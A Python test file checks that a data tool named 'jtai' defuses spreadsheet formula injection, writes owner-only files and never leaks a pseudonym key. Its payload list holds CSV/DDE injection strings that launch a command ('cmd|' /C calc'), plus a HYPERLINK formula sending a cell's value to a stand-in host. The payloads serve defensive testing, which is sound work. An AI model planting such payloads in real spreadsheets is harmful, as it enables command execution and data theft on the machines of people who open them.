"""Issue 14, "Safe with sensitive data", as an attacker or a careless sender would try it.

A submission carries formula payloads in every text column (IDs, codes, teams, free text); it goes
through `jtai validate`, `jtai sample` and `jtai pack`. No CSV or .xlsx cell of any output may start
with a formula trigger, the ID payloads are error findings, everything written is owner-only, and
the pseudonym key appears nowhere.
"""

from __future__ import annotations

import csv
import grp
import io
import json
import os
import stat
import subprocess
from pathlib import Path

import openpyxl
import pytest

from jtai_analysis.catalogue.lists import load_catalogue
from jtai_analysis.common.text import normalise_header
from jtai_analysis.synth import write_submission
from tests.conftest import REFERENCE_DATE
from tests.e2e.real_processes import run_jtai

pytestmark = [pytest.mark.slow, pytest.mark.xdist_group("pack")]

ID_PAYLOAD = '=HYPERLINK("http://x.example/"&A1;"click")'
PAYLOADS = [
    "=cmd|' /C calc'!A0",
    "+SUM(1;2)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    ID_PAYLOAD,
]
TEXT_TYPES = ("id", "code", "codes", "text")
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
KEY = "not-a-real-key-9f3c1d7e5b2a"


def runs_as_formula(cell: object) -> bool:
    """True when a spreadsheet would run this cell: text starting with a trigger that is not a number."""
    if not isinstance(cell, str) or not cell.startswith(TRIGGERS):
        return False
    try:
        float(cell)
    except ValueError:
        return True
    return False


def _text_headers() -> dict[str, str]:
    """Folded header (official or alias) -> column type, for the text-like columns of every list."""
    headers = {}
    for contract in load_catalogue().lists.values():
        for column in contract.columns:
            if column.type in TEXT_TYPES:
                for header in column.accepted_headers():
                    headers[normalise_header(header)] = column.type
    return headers


def plant_payloads(folder: Path) -> list[tuple[str, int, str]]:
    """Put a payload in every text column of every CSV list (one row per column); return the
    (file, line, payload) of every ID payload planted."""
    text_headers = _text_headers()
    planted_ids = []
    for path in sorted(folder.glob("*.csv")):
        raw = path.read_bytes().decode("utf-8-sig")
        rows = list(csv.reader(io.StringIO(raw, newline="")))
        header_at = next(i for i, row in enumerate(rows) if sum(bool(c) for c in row) >= 3)
        header = rows[header_at]
        columns = [
            (i, text_headers[normalise_header(h)])
            for i, h in enumerate(header)
            if normalise_header(h) in text_headers
        ]
        data_rows = rows[header_at + 1 :]
        assert len(data_rows) > len(columns), path.name
        for j, (i, kind) in enumerate(columns):
            payload = ID_PAYLOAD if kind == "id" else PAYLOADS[j % len(PAYLOADS)]
            data_rows[j][i] = payload
            if kind == "id":
                planted_ids.append((path.name, header_at + 2 + j, payload))
        buffer = io.StringIO()
        csv.writer(buffer, lineterminator="\r\n").writerows(rows)
        path.write_text(buffer.getvalue(), encoding="utf-8")
    return planted_ids


def cells_of(path: Path) -> list[object]:
    if path.suffix == ".xlsx":
        book = openpyxl.load_workbook(path)
        found: list[object] = []
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", f"{path.name}!{cell.coordinate} is a formula"
                    found.append(cell.value)
        return found
    text = path.read_bytes().decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def spreadsheet_outputs(folder: Path) -> list[Path]:
    return sorted(p for p in folder.rglob("*") if p.suffix.lower() in (".csv", ".xlsx"))


@pytest.fixture(scope="module")
def poisoned(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, list[tuple[str, int, str]]]:
    data = tmp_path_factory.mktemp("poisoned")
    write_submission(data, size="small", seed=11, reference_date=REFERENCE_DATE, file_format="csv")
    planted = plant_payloads(data)
    assert len(planted) >= 7
    return data, planted


@pytest.fixture(scope="module")
def runs(poisoned: tuple[Path, list], tmp_path_factory: pytest.TempPathFactory) -> Path:
    """`jtai validate`, `clean`, `dip`, `sample` and `pack` on the poisoned submission, outputs
    under one folder."""
    data, _ = poisoned
    out = tmp_path_factory.mktemp("outputs")
    date = REFERENCE_DATE.isoformat()
    check = out / "check"
    validate = run_jtai(
        "validate",
        str(data),
        "--reference-date",
        date,
        "--json",
        str(check / "v.json"),
        "--xlsx",
        str(check / "fix_list.xlsx"),
    )
    assert validate.returncode == 1, validate.stderr  # error findings
    clean = run_jtai("clean", str(data), "--reference-date", date, "--out", str(out / "clean"))
    assert clean.returncode in (0, 1), clean.stderr
    dip = run_jtai(
        "dip",
        "--data",
        str(data),
        "--list",
        "contacts",
        "--n",
        "25",
        "--reference-date",
        date,
        "--out",
        str(out / "dip" / "contacts.xlsx"),
    )
    assert dip.returncode == 0, dip.stderr
    sample = run_jtai(
        "sample", "--data", str(data), "--reference-date", date, "--out", str(out / "sample")
    )
    assert sample.returncode == 0, sample.stderr
    pack = run_jtai(
        "pack",
        "--data",
        str(data),
        "--la",
        "Test",
        "--notification-date",
        date,
        "--out",
        str(out / "pack"),
    )
    assert pack.returncode == 0, pack.stderr
    return out


def test_no_output_cell_runs_as_a_formula(runs: Path) -> None:
    outputs = spreadsheet_outputs(runs)
    names = {p.relative_to(runs).as_posix() for p in outputs}
    assert {
        "check/v.quarantine/contacts.csv",
        "sample/selected_20.csv",
        "pack/indicators.csv",
    } <= names
    assert {
        "pack/timeline.csv",
        "pack/quarantine/contacts.csv",
        "pack/sample/selected_6.csv",
    } <= names
    assert {"check/fix_list.xlsx", "clean/contacts.csv", "dip/contacts.xlsx"} <= names
    cells = [(path, cell) for path in outputs for cell in cells_of(path)]
    assert [(p.name, c) for p, c in cells if runs_as_formula(c)] == []
    # the payloads did reach the outputs, kept as readable text
    assert (
        sum(c == "'" + ID_PAYLOAD for _, c in cells) >= 2 * 7
    )  # validate's and the pack's quarantine


def test_id_payloads_are_error_findings(poisoned: tuple[Path, list], runs: Path) -> None:
    _, planted = poisoned
    content = json.loads((runs / "check" / "v.json").read_text())
    findings = {
        (f["sheet"], f["row"], f["value"])
        for item in content["lists"].values()
        for f in item["findings"]
        if f["rule"].endswith("child_id.plausible_id") and f["severity"] == "error"
    }
    assert findings == set(planted)


def _modes(root: Path) -> dict[str, int]:
    return {
        p.relative_to(root.parent).as_posix(): stat.S_IMODE(p.lstat().st_mode)
        for p in [root, *root.rglob("*")]
    }


def test_every_file_and_folder_a_pack_writes_is_owner_only(runs: Path) -> None:
    folders = ("check", "clean", "dip", "pack", "sample")
    modes = {path: mode for folder in folders for path, mode in _modes(runs / folder).items()}
    assert len([p for p in modes if p.startswith("pack/notebooks/")]) >= 5
    assert {"pack/run.log", "pack/provenance.json", "pack/briefing-pack.html"} <= set(modes)
    wrong = {
        path: oct(mode)
        for path, mode in modes.items()
        if mode != (0o700 if (runs / path).is_dir() else 0o600)
    }
    assert wrong == {}
    assert {"clean/contacts.csv", "dip/contacts.xlsx", "check/fix_list.xlsx"} <= set(modes)
    assert sorted(p.name for p in runs.iterdir()) == list(folders)  # nothing left aside


def _sample_shared_with(data: Path, out: Path, group: str) -> subprocess.CompletedProcess[str]:
    date = REFERENCE_DATE.isoformat()
    return run_jtai(
        "sample", "--data", str(data), "--reference-date", date, "--out", str(out),
        "--share-with-group", group,
    )  # fmt: skip


def test_a_named_group_can_read_the_outputs(small_xlsx: Path, tmp_path: Path) -> None:
    group = grp.getgrgid(os.getgid()).gr_name
    out = tmp_path / "shared"
    result = _sample_shared_with(small_xlsx, out, group)
    assert result.returncode == 0, result.stderr
    modes = _modes(out)
    assert modes == {
        "shared": 0o2750,
        "shared/selected_20.csv": 0o640,
        "shared/selected_6.csv": 0o640,
        "shared/sample.xlsx": 0o640,
    }
    assert {p.stat().st_gid for p in [out, *out.iterdir()]} == {os.getgid()}


def test_an_unknown_group_stops_the_run_before_it_writes(small_xlsx: Path, tmp_path: Path) -> None:
    result = _sample_shared_with(small_xlsx, tmp_path / "s", "no-such-group-x")
    assert result.returncode == 2
    assert result.stderr.strip() == (
        "The group 'no-such-group-x' does not exist on this machine, so outputs cannot be shared with it."
    )
    assert not (tmp_path / "s").exists()


def _pack(data: Path, out: Path, key: str, *options: str) -> subprocess.CompletedProcess[str]:
    """`jtai pack` on ``data`` into ``out``, with JTAI_PSEUDONYM_KEY set to ``key``."""
    where = ("--data", str(data), "--out", str(out))
    inspection = ("--la", "Test", "--notification-date", REFERENCE_DATE.isoformat())
    return run_jtai("pack", *options, *where, *inspection, env={"JTAI_PSEUDONYM_KEY": key})


def test_the_pseudonym_key_never_appears_anywhere(small_xlsx: Path, tmp_path: Path) -> None:
    """The key in the config file (it then sits in provenance's reach) and a short one in the
    environment (refused: the error must not echo it)."""
    config = tmp_path / "inspection.yml"
    config.write_text(f"pseudonym_key: {KEY}\npseudonymise: true\n", encoding="utf-8")
    out = tmp_path / "pack"
    result = _pack(small_xlsx, out, "", "--config", str(config))
    assert result.returncode == 0, result.stderr
    assert "P-" in (out / "sample" / "selected_20.csv").read_text()  # it did pseudonymise
    short = "short-key-123"
    refused = _pack(small_xlsx, tmp_path / "refused", short, "--pseudonymise")
    assert refused.returncode == 2 and "at least 16 characters" in refused.stderr
    broken = tmp_path / "broken.yml"  # YAML's own error message would quote the key's line
    broken.write_text(f"la: Test\npseudonym_key: {KEY}: x\n", encoding="utf-8")
    unreadable = run_jtai("pack", "--config", str(broken))
    assert unreadable.returncode == 2
    assert unreadable.stderr.strip() == f"The config file {broken} is not valid YAML near line 2."
    texts = (result.stdout, result.stderr, refused.stdout, refused.stderr, unreadable.stderr)
    for text in texts:
        assert KEY not in text and short not in text
    written = [p for p in tmp_path.rglob("*") if p.is_file() and p not in (config, broken)]
    assert len(written) > 10
    assert [p.name for p in written if KEY.encode() in p.read_bytes()] == []
